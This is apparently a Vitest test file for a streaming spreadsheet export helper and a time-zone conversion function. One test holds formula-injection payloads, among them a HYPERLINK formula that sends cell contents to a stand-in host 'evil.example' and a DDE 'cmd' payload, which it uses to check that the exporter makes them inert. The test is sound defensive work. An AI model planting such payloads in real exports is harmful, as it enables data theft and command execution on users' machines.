import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import {
  dayValue,
  maxCellCharacters,
  streamWorkbook,
  wallClockIn,
  type SheetColumn,
} from './workbook.ts';

type Record = { i: number };

const columns: SheetColumn[] = [
  { header: 'Number', key: 'number', width: 10 },
  { header: 'Text', key: 'text', width: 30 },
  { header: 'Amount', key: 'amount', width: 18, style: { numFmt: '#,##0.00' } },
  { header: 'Day', key: 'day', width: 14, style: { numFmt: 'dd/mm/yyyy' } },
  { header: 'At', key: 'at', width: 20, style: { numFmt: 'dd/mm/yyyy hh:mm' } },
  { header: 'Yes', key: 'yes' },
  { header: 'Nothing', key: 'nothing' },
];

/** `total` records 0…total-1, a batch at a time; counts the batches asked for. */
function source(total: number) {
  const asked: number[] = [];
  return {
    asked,
    batch: async ({ after, limit }: { after: Record | undefined; limit: number }) => {
      const start = after ? after.i + 1 : 0;
      asked.push(start);
      return Array.from({ length: Math.max(0, Math.min(limit, total - start)) }, (_, k) => ({
        i: start + k,
      }));
    },
  };
}

async function read(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

describe('streamWorkbook', () => {
  it('writes headers and typed cells that a spreadsheet reader reads back as written', async () => {
    const { batch } = source(3);
    const at = new Date('2026-11-25T13:45:30Z');
    const stream = streamWorkbook<Record>({
      sheetName: 'Requests: 2026/11 [all]',
      columns,
      batch,
      row: ({ i }) => ({
        number: i,
        text: i === 0 ? '  A & B <c> "d" \u0007bell ' : `row ${i}`,
        amount: 1234.5 + i,
        day: dayValue('2026-11-30'),
        at,
        yes: i % 2 === 0,
        nothing: null,
      }),
    });
    const workbook = await read(await buffer(stream));
    // A sheet name loses the characters Excel refuses and stops at 31 characters.
    const sheet = workbook.worksheets[0];
    expect(sheet?.name).toBe('Requests  2026 11  all ');
    expect(sheet?.rowCount).toBe(4);
    expect((sheet?.getRow(1).values as unknown[]).slice(1)).toEqual(
      columns.map((column) => column.header),
    );
    const first = sheet?.getRow(2);
    expect(first?.getCell(1).value).toBe(0);
    expect(first?.getCell(2).value).toBe('  A & B <c> "d" bell ');
    expect(first?.getCell(3).value).toBe(1234.5);
    expect(first?.getCell(3).numFmt).toBe('#,##0.00');
    expect(first?.getCell(4).value).toEqual(new Date('2026-11-30T00:00:00Z'));
    expect(first?.getCell(4).numFmt).toBe('dd/mm/yyyy');
    expect((first?.getCell(5).value as Date).getTime()).toBeCloseTo(at.getTime(), -1);
    expect(first?.getCell(6).value).toBe(true);
    expect(first?.getCell(7).value).toBeNull();
    expect(sheet?.getRow(3).getCell(6).value).toBe(false);
    expect(sheet?.getColumn(2).width).toBe(30);
  });

  it("wraps a column's lines in their cell, with or without a number format beside it", async () => {
    const stream = streamWorkbook<Record>({
      sheetName: 'Lines',
      columns: [
        { header: 'Lines', key: 'lines', width: 40, style: { wrapText: true } },
        { header: 'Amount', key: 'amount', style: { numFmt: '#,##0.00', wrapText: true } },
        { header: 'Plain', key: 'plain', style: { numFmt: '#,##0.00' } },
      ],
      batch: source(1).batch,
      row: () => ({ lines: 'Amount: 1 → 2\nStatus: Active', amount: 1234.5, plain: 2 }),
    });
    const row = (await read(await buffer(stream))).worksheets[0]?.getRow(2);
    expect(row?.getCell(1).value).toBe('Amount: 1 → 2\nStatus: Active');
    expect(row?.getCell(1).alignment).toMatchObject({ wrapText: true, vertical: 'top' });
    expect(row?.getCell(2).numFmt).toBe('#,##0.00');
    expect(row?.getCell(2).alignment).toMatchObject({ wrapText: true });
    expect(row?.getCell(3).numFmt).toBe('#,##0.00');
    expect(row?.getCell(3).alignment?.wrapText).toBeFalsy();
  });

  it('keeps a formula-like text inert though control characters hide it, and cuts a text to what a cell holds', async () => {
    const texts = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '\u0001=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "\u0000\u0008+1+cmd|' /C calc'!A0",
      '\u001f@SUM(1)',
      '-2+3',
      'x'.repeat(maxCellCharacters + 10),
      `${'y'.repeat(maxCellCharacters - 47)}\u{1F600}${'z'.repeat(100)}`,
    ];
    const stream = streamWorkbook<Record>({
      sheetName: 'Texts',
      columns: [{ header: 'Text', key: 'text' }],
      batch: source(texts.length).batch,
      row: ({ i }) => ({ text: texts[i] ?? '' }),
    });
    const sheet = (await read(await buffer(stream))).worksheets[0];
    const cells = texts.map((_text, i) => String(sheet?.getRow(i + 2).getCell(1).value));
    expect(cells.slice(0, 5)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      `'+1+cmd|' /C calc'!A0`,
      `'@SUM(1)`,
      `'-2+3`,
    ]);
    for (const cell of cells.slice(5)) {
      expect(cell.length).toBeLessThanOrEqual(maxCellCharacters);
      expect(cell.endsWith('… (cut: longer than a spreadsheet cell holds)')).toBe(true);
      // No lone half of a surrogate pair where the text was cut.
      expect(cell).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
    }
  });

  it('writes every number as String writes it, and a moment to a tenth of a millisecond', async () => {
    const numbers = [
      0,
      -0,
      7,
      -42,
      1_000_000,
      Number.MAX_SAFE_INTEGER,
      1234.5,
      0.05,
      -0.05,
      0.1,
      1234567.89,
      -98765.43,
      9_999_999_999_999.99,
      0.1 + 0.2,
      123.456,
      Math.PI,
      1.5e-7,
      1e21,
      2 ** 60,
    ];
    const moments = [
      '2026-11-25T13:45:30.123Z',
      '2026-11-30T00:00:00.000Z',
      '2026-12-31T23:59:59.999Z',
      '1969-12-31T12:00:00.000Z',
      '2024-02-29T00:00:00.001Z',
      '2026-03-01T06:00:00.000Z',
    ].map((moment) => new Date(moment));
    const stream = streamWorkbook<Record>({
      sheetName: 'Numbers',
      columns: [
        { header: 'Number', key: 'number' },
        { header: 'At', key: 'at' },
      ],
      batch: source(numbers.length).batch,
      row: ({ i }) => ({ number: numbers[i], at: moments[i] }),
    });
    const files = unzipSync(await buffer(stream));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    const cells = (column: string) =>
      [...sheet.matchAll(new RegExp(`<c r="${column}(\\d+)"><v>([^<]*)</v></c>`, 'g'))].map(
        ([, row, value]) => ({ row: Number(row), value: value ?? '' }),
      );
    expect(cells('A')).toEqual(numbers.map((value, i) => ({ row: i + 2, value: String(value) })));
    const serials = cells('B');
    expect(serials.map(({ row }) => row)).toEqual(moments.map((_, i) => i + 2));
    serials.forEach(({ value }, i) => {
      const time = moments[i]?.getTime() ?? Number.NaN;
      // Days since 1899-12-30; midnight is a whole day, without a fraction.
      expect(Math.abs((Number(value) - 25_569) * 86_400_000 - time)).toBeLessThan(0.05);
      expect(value.includes('.')).toBe(time % 86_400_000 !== 0);
    });
  });

  it('reads the rows a batch at a time, each after the last, until a short batch', async () => {
    const { batch, asked } = source(1200);
    const stream = streamWorkbook<Record>({
      sheetName: 'Rows',
      columns: columns.slice(0, 1),
      batch,
      row: ({ i }) => ({ number: i }),
    });
    const sheet = (await read(await buffer(stream))).worksheets[0];
    expect(asked).toEqual([0, 500, 1000]);
    expect(sheet?.rowCount).toBe(1201);
    expect(sheet?.getRow(1201).getCell(1).value).toBe(1199);
  });

  it('keeps text in any script whole, across the chunks it is encoded in and longer than one', async () => {
    // Names in other scripts (2 to 4 bytes a character in UTF-8) on every row, so characters
    // fall on every side of the 64 KiB chunks the sheet is encoded in; one text longer than a chunk.
    const names = [
      'Zoë Mwakasege',
      '张伟 收据',
      'Åsa 🙂 Ødegård',
      'plain ascii',
      'x'.repeat(30_000),
    ];
    const { batch } = source(3_000);
    const stream = streamWorkbook<Record>({
      sheetName: 'Scripts',
      columns: columns.slice(0, 2),
      batch,
      row: ({ i }) => ({ number: i, text: names[i % names.length] }),
    });
    const sheet = (await read(await buffer(stream))).worksheets[0];
    expect(sheet?.rowCount).toBe(3_001);
    const misses: number[] = [];
    for (let i = 0; i < 3_000; i += 1) {
      const row = sheet?.getRow(i + 2);
      if (row?.getCell(1).value !== i || row.getCell(2).value !== names[i % names.length]) {
        misses.push(i);
      }
    }
    expect(misses).toEqual([]);
  });

  it('waits for the client: nothing is read far ahead of what it has taken', async () => {
    const { batch, asked } = source(100_000);
    const stream = streamWorkbook<Record>({
      sheetName: 'Slow client',
      columns: columns.slice(0, 2),
      batch,
      row: ({ i }) => ({ number: i, text: `a longer text for row ${i} to fill the buffers` }),
    });
    // Nobody reads: after the first batches fill the stream's buffer, no further batch is asked.
    await new Promise((resolve) => setTimeout(resolve, 300));
    const before = asked.length;
    expect(before).toBeLessThan(20);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(asked.length).toBe(before);
    // Once read, it goes on to the end.
    const sheet = (await read(await buffer(stream))).worksheets[0];
    expect(sheet?.rowCount).toBe(100_001);
  });

  it('stops reading when the client goes away', async () => {
    const { batch, asked } = source(100_000);
    const stream = streamWorkbook<Record>({
      sheetName: 'Gone',
      columns: columns.slice(0, 2),
      batch,
      row: ({ i }) => ({ number: i, text: `row ${i} with some text to fill the buffers` }),
    });
    await new Promise((resolve) => setTimeout(resolve, 200));
    stream.destroy();
    await new Promise((resolve) => setTimeout(resolve, 200));
    const asked_ = asked.length;
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(asked.length).toBe(asked_);
    expect(asked.length).toBeLessThan(10);
  });

  it('ends the stream with the error of a batch that fails', async () => {
    const stream = streamWorkbook<Record>({
      sheetName: 'Broken',
      columns: columns.slice(0, 1),
      batch: async () => {
        throw new Error('the database went away');
      },
      row: ({ i }) => ({ number: i }),
    });
    await expect(buffer(stream)).rejects.toThrow('the database went away');
  });
});

describe('wallClockIn', () => {
  it.each([
    ['2026-03-01T22:30:00.250Z', 'Africa/Dar_es_Salaam', '2026-03-02T01:30:00.250Z'],
    ['2026-03-29T00:30:00Z', 'Europe/London', '2026-03-29T00:30:00.000Z'],
    ['2026-03-29T01:30:00Z', 'Europe/London', '2026-03-29T02:30:00.000Z'],
    ['2026-01-01T03:00:00Z', 'America/Los_Angeles', '2025-12-31T19:00:00.000Z'],
    ['2026-06-30T23:59:59Z', 'UTC', '2026-06-30T23:59:59.000Z'],
  ])('%s reads as the clock in %s reads it', (moment, zone, clock) => {
    expect(wallClockIn(new Date(moment), zone).toISOString()).toBe(clock);
  });
});

describe('wallClockIn, read once per day, per quarter-hour on a day of change', () => {
  it.each(['Africa/Dar_es_Salaam', 'Europe/London', 'Australia/Lord_Howe', 'Asia/Kathmandu'])(
    'agrees with the clock of %s at every 37th minute of 2026, across its offset changes',
    (zone) => {
      // The zone's clock as Intl writes it ('2026-03-02 01:30:00'), apart from wallClockIn's way.
      const clock = new Intl.DateTimeFormat('sv-SE', {
        timeZone: zone,
        dateStyle: 'short',
        timeStyle: 'medium',
      });
      const misses: string[] = [];
      for (let at = Date.UTC(2026, 0, 1); at < Date.UTC(2027, 0, 1); at += 37 * 60_000 + 1_234) {
        const written = wallClockIn(new Date(at), zone)
          .toISOString()
          .slice(0, 19)
          .replace('T', ' ');
        if (written !== clock.format(at)) misses.push(new Date(at).toISOString());
      }
      expect(misses).toEqual([]);
    },
  );
});

describe('text that reads as a formula', () => {
  it.each(['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\tx'])(
    'keeps %j text behind an apostrophe; other text is written as it is',
    async (text) => {
      const stream = streamWorkbook<{ text: string }>({
        sheetName: 'Texts',
        columns: [{ header: 'Text', key: 'text' }],
        batch: async ({ after }) => (after ? [] : [{ text }, { text: 'Asha = Staff' }]),
        row: (row) => row,
      });
      const sheet = (await read(await buffer(stream))).worksheets[0];
      expect(sheet?.getRow(2).getCell(1).value).toBe(`'${text}`);
      expect(sheet?.getRow(3).getCell(1).value).toBe('Asha = Staff');
    },
  );
});
